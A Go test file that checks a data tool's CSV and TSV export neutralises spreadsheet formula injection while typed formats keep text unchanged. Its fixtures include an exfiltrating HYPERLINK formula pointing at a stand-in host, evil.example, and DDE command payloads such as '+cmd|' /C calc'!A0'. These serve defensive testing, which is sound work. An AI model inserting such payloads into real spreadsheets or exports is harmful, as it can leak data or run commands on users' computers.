package export

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/segscope/segscope/query"
	"github.com/segscope/segscope/query/querytest"
)

// formulaCells are text cells as a hostile or a careless file holds them, and
// whether a spreadsheet could run them (so the export must quote them).
var formulaCells = []struct {
	cell   string
	quoted bool
}{
	{`=HYPERLINK("http://evil.example/?"&A1,"click")`, true},
	{`=1+1`, true},
	{`@SUM(A1:A9)`, true},
	{"\t=1+1", true},
	{"\rhidden", true},
	{`+cmd|' /C calc'!A0`, true},
	{`-2+3+cmd|' /C calc'!A0`, true},
	{`+1+1 =x`, true},
	{`-`, true},
	{`+`, true},
	{`-12.5`, false},
	{`+3`, false},
	{`-1e5`, false},
	{`-0,75`, false},
	{`+44 20 7946 0958`, false},
	{`+1 (415) 555-0100`, false},
	{`+33.1.23.45.67.89`, false},
	{`a=b`, false},
	{`plain text`, false},
	{` =leading space`, false},
	{``, false},
}

func TestFormulaLike(t *testing.T) {
	t.Parallel()
	for _, c := range formulaCells {
		if got := formulaLike(c.cell); got != c.quoted {
			t.Errorf("formulaLike(%q) = %v, want %v", c.cell, got, c.quoted)
		}
	}
	// A Google Ads file carries the zip in the clear: a formula is no zip.
	for zipCode, valid := range map[string]bool{"SW1A 1AA": true, "94043": true, "1010-001": true, "=1+1": false, "@A1": false, "-x": false} {
		if _, ok := zip(zipCode); ok != valid {
			t.Errorf("zip(%q) valid = %v, want %v", zipCode, ok, valid)
		}
	}
	for typ, text := range map[string]bool{"VARCHAR": true, "JSON": true, "ENUM": true, "BLOB": true,
		"UNION(a VARCHAR, b INTEGER)": true, "BIGINT": false, "DECIMAL(18,3)": false, "DOUBLE": false,
		"TIMESTAMPTZ": false, "DATE": false, "BOOLEAN": false, "VARCHAR[]": false, "INTEGER[3]": false,
		"STRUCT(a VARCHAR)": false, "MAP(VARCHAR, VARCHAR)": false} {
		if textual(typ) != text {
			t.Errorf("textual(%s) = %v, want %v", typ, !text, text)
		}
	}
}

// formulaWorkspace holds a table of every cell in formulaCells, in a text
// column, a BLOB column and as the key itself, beside a negative number and a
// list that are written as they are.
func formulaWorkspace(t *testing.T) *query.Workspace {
	t.Helper()
	ws := querytest.Empty(t)
	var values []string
	for i, c := range formulaCells {
		// The key sorts in fixture order: kaa, kab...; one key is hostile too.
		key := query.QuoteString("k" + string(rune('a'+i/26)) + string(rune('a'+i%26)))
		values = append(values, "("+key+", "+query.QuoteString(c.cell)+")")
	}
	values = append(values, "('=key', NULL)")
	path := filepath.Join(t.TempDir(), "hostile.parquet")
	_, err := ws.DB().Exec(`COPY (SELECT id, cell, CAST(cell AS BLOB) AS raw_bytes, -12.5 AS amount, [cell] AS cells
		FROM (VALUES ` + strings.Join(values, ", ") + `) v(id, cell)) TO ` + query.QuoteString(path) + ` (FORMAT parquet)`)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := ws.Import(context.Background(), path, query.ImportOptions{Table: "hostile", Key: "id"}); err != nil {
		t.Fatal(err)
	}
	define(t, ws, "everyone", "hostile", "amount < 0")
	return ws
}

// readDelimited reads a CSV or TSV export back as a spreadsheet would get it.
func readDelimited(t *testing.T, path string, comma rune) [][]string {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	r := csv.NewReader(f)
	r.Comma = comma
	records, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return records
}

// blobText is how DuckDB writes a BLOB's bytes as text: control characters and
// quotes escaped.
func blobText(s string) string {
	return strings.NewReplacer("\t", `\x09`, "\r", `\x0D`, `"`, `\x22`, "'", `\x27`).Replace(s)
}

func quoteIf(s string, quote bool) string {
	if quote {
		return "'" + s
	}
	return s
}

func readManifest(t *testing.T, path string) Manifest {
	t.Helper()
	data, err := os.ReadFile(ManifestPath(path))
	if err != nil {
		t.Fatal(err)
	}
	var m Manifest
	if err := json.Unmarshal(data, &m); err != nil {
		t.Fatal(err)
	}
	return m
}

func TestFormulaCellsNeutralised(t *testing.T) {
	t.Parallel()
	ws := formulaWorkspace(t)
	e := newExporter(ws)
	columns := []string{"cell", "raw_bytes", "amount", "cells"}
	hostile := 1 // the key =key
	for _, c := range formulaCells {
		if c.quoted {
			hostile++
		}
		if formulaLike(blobText(c.cell)) {
			hostile++
		}
	}
	for _, tc := range []struct {
		format Format
		comma  rune
	}{{CSV, ','}, {TSV, '\t'}} {
		t.Run(string(tc.format), func(t *testing.T) {
			path := filepath.Join(t.TempDir(), "out"+Extension(tc.format))
			res, err := e.Export(context.Background(), Request{Acknowledge: acknowledged, Segment: "everyone", Format: tc.format, Columns: columns, Path: path})
			if err != nil {
				t.Fatal(err)
			}
			records := readDelimited(t, path, tc.comma)
			if len(records) != len(formulaCells)+2 {
				t.Fatalf("%d records, want a header and %d rows", len(records), len(formulaCells)+1)
			}
			// =key sorts first.
			if first := records[1]; first[0] != "'=key" {
				t.Errorf("the key =key was written as %q", first[0])
			}
			for i, c := range formulaCells {
				row := records[i+2]
				if want := quoteIf(c.cell, c.quoted); row[1] != want {
					t.Errorf("cell %q written as %q, want %q", c.cell, row[1], want)
				}
				if b := blobText(c.cell); row[2] != quoteIf(b, formulaLike(b)) {
					t.Errorf("bytes %q written as %q", b, row[2])
				}
				if row[3] != "-12.5" || !strings.HasPrefix(row[4], "[") {
					t.Errorf("row %d: amount %q and list %q should be written as they are", i, row[3], row[4])
				}
			}
			m := readManifest(t, path)
			if m.Formulas == nil || m.Formulas.Raw || m.Formulas.Neutralised != int64(hostile) || m.Formulas.Rule != FormulaRule {
				t.Fatalf("manifest says %+v, want %d cells neutralised under the rule", m.Formulas, hostile)
			}
			if res.Manifest.Formulas.Neutralised != int64(hostile) {
				t.Errorf("result says %d cells", res.Manifest.Formulas.Neutralised)
			}
		})
	}

	t.Run("raw", func(t *testing.T) {
		path := filepath.Join(t.TempDir(), "raw.csv")
		if _, err := e.Export(context.Background(), Request{Acknowledge: acknowledged, Segment: "everyone", Format: CSV, Columns: columns, Path: path, Raw: true}); err != nil {
			t.Fatal(err)
		}
		records := readDelimited(t, path, ',')
		if records[1][0] != "=key" {
			t.Errorf("--raw wrote the key =key as %q", records[1][0])
		}
		for i, c := range formulaCells {
			if records[i+2][1] != c.cell {
				t.Errorf("--raw wrote %q as %q", c.cell, records[i+2][1])
			}
		}
		if m := readManifest(t, path); m.Formulas == nil || !m.Formulas.Raw || m.Formulas.Neutralised != 0 {
			t.Errorf("a raw export's manifest says %+v", m.Formulas)
		}
	})

	// Typed formats carry the text as text: nothing to neutralise, nothing claimed.
	for _, f := range []Format{JSON, Parquet} {
		t.Run(string(f), func(t *testing.T) {
			path := filepath.Join(t.TempDir(), "out"+Extension(f))
			res, err := e.Export(context.Background(), Request{Acknowledge: acknowledged, Segment: "everyone", Format: f, Columns: []string{"cell"}, Path: path})
			if err != nil {
				t.Fatal(err)
			}
			if res.Manifest.Formulas != nil {
				t.Errorf("a %s manifest claims %+v", f, res.Manifest.Formulas)
			}
			reader := "read_parquet"
			if f == JSON {
				reader = "read_json"
			}
			got := keys(t, ws.DB(), `SELECT cell FROM `+reader+`(?) WHERE cell = ?`, path, formulaCells[0].cell)
			if len(got) != 1 {
				t.Errorf("%s: %q not written as it is", f, formulaCells[0].cell)
			}
		})
	}
}

func TestFormulaStartersSortBeforeLetters(t *testing.T) {
	t.Parallel()
	// dropLetterColumns leaves out columns whose values all begin at 'A' or
	// later: that is safe only while every starter sorts before 'A'.
	for i := range len(formulaStarters) {
		if formulaStarters[i] >= 'A' {
			t.Fatalf("formula starter %q does not sort before 'A'", formulaStarters[i])
		}
	}
	for stats, letters := range map[string]bool{
		"[Min: Ada, Max: Zoe, Has Unicode: false]": true,
		"[Min: abc, Max: xyz]":                     true,
		"[Min: ~x, Max: ~y]":                       true,
		`[Min: \x09tab, Max: x]`:                   false, // a tab, as DuckDB writes it
		`[Min: \xFF\xFF, Max: ]`:                   false, // no value at all
		`[Min: \xC3\xA9mile, Max: z]`:              false,
		"[Min: , Max: q]":                          false, // an empty string
		"[Min: =cmd, Max: z]":                      false,
		"[Min: @a, Max: z]":                        false,
		"[Min:  aadeye, Max: z]":                   false, // a leading space may hide nothing, but the byte after it may
		"[Min: 9lives, Max: z]":                    false,
		"No Stats":                                 false,
		"":                                         false,
	} {
		if got := letterMin(stats); got != letters {
			t.Errorf("letterMin(%q) = %v, want %v", stats, got, letters)
		}
	}
}

// A text column whose every value begins with a letter is written as it is,
// and says so in the manifest; once a cell that could be a formula is put in
// it, the table's statistics widen and the next export neutralises the cell.
func TestLetterColumnsWrittenAsTheyAre(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	ws := querytest.Empty(t)
	src := filepath.Join(t.TempDir(), "people.csv")
	if err := os.WriteFile(src, []byte("id,name,plan,email\n1,Ada,basic,1ada@example.com\n2,Bo,premium,bo@example.com\n3,Cy,family,cy@example.com\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := ws.Import(ctx, src, query.ImportOptions{Table: "people", Key: "id"}); err != nil {
		t.Fatal(err)
	}
	define(t, ws, "all", "people", "id > 0")
	e := newExporter(ws)
	export := func(name string) ([][]string, Manifest) {
		path := filepath.Join(t.TempDir(), name)
		res, err := e.Export(ctx, Request{Acknowledge: acknowledged, Segment: "all", Format: CSV, Columns: []string{"name", "plan", "email"}, Path: path})
		if err != nil {
			t.Fatal(err)
		}
		return readDelimited(t, path, ','), res.Manifest
	}
	rows, m := export("first.csv")
	if got := strings.Join(m.Formulas.LetterColumns, ","); got != "name,plan" {
		t.Errorf("columns written as they are: %q, want name,plan (email begins with a digit)", got)
	}
	if rows[2][2] != "premium" || m.Formulas.Neutralised != 0 || strings.Contains(m.Query, `ascii("plan")`) || !strings.Contains(m.Query, `ascii("email")`) {
		t.Errorf("first export: row %q, %d neutralised, query %s", rows[2], m.Formulas.Neutralised, m.Query)
	}
	if _, err := ws.DB().ExecContext(ctx, `UPDATE people SET plan = '=HYPERLINK("http://evil.example")' WHERE id = 2`); err != nil {
		t.Fatal(err)
	}
	rows, m = export("second.csv")
	if got := strings.Join(m.Formulas.LetterColumns, ","); got != "name" {
		t.Errorf("after the update, columns written as they are: %q, want name", got)
	}
	if rows[2][2] != `'=HYPERLINK("http://evil.example")` || m.Formulas.Neutralised != 1 {
		t.Errorf("after the update, the formula was written as %q, %d neutralised", rows[2][2], m.Formulas.Neutralised)
	}
}

// An attached table is a view over files, whose statistics come from the files
// themselves (a Parquet footer says what its writer put there): its columns
// keep the guard however their statistics read.
func TestAttachedColumnsKeepTheGuard(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	ws := querytest.Empty(t)
	src := filepath.Join(t.TempDir(), "people.parquet")
	if _, err := ws.DB().ExecContext(ctx, `COPY (SELECT range AS id, 'Name' || range AS name FROM range(100)) TO `+
		query.QuoteString(src)+` (FORMAT parquet)`); err != nil {
		t.Fatal(err)
	}
	if _, err := ws.Attach(ctx, src, query.AttachOptions{Table: "people", Key: "id"}); err != nil {
		t.Fatal(err)
	}
	var stats string
	if err := ws.DB().QueryRowContext(ctx, `SELECT stats(name) FROM people LIMIT 1`).Scan(&stats); err != nil || !letterMin(stats) {
		t.Fatalf("the view's statistics %q (%v) should read as letters, or this test shows nothing", stats, err)
	}
	define(t, ws, "all", "people", "id >= 0")
	path := filepath.Join(t.TempDir(), "out.csv")
	res, err := newExporter(ws).Export(ctx, Request{Acknowledge: acknowledged, Segment: "all", Format: CSV, Columns: []string{"name"}, Path: path})
	if err != nil {
		t.Fatal(err)
	}
	if m := res.Manifest; len(m.Formulas.LetterColumns) != 0 || !strings.Contains(m.Query, `ascii("name")`) {
		t.Errorf("an attached column was written without the guard: %v, %s", m.Formulas.LetterColumns, m.Query)
	}
}
